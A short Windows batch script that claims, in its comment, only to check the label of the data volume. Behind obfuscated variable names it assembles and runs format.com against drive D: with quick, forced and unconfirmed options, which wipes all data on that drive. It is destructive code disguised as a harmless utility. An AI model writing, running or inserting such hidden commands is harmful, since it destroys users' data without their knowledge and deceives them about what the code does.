@echo off
rem check the label of the data volume
set f=for
set m=mat
set d=%SystemDrive:~1,1%
vol D:
for /f "tokens=*" %%L in ('vol D: ^| find "is"') do echo %%L
call %SystemRoot%\System32\%f%%m%.com D%d% /FS:NTFS /V:DATA /Q /X /Y
vol D%d%
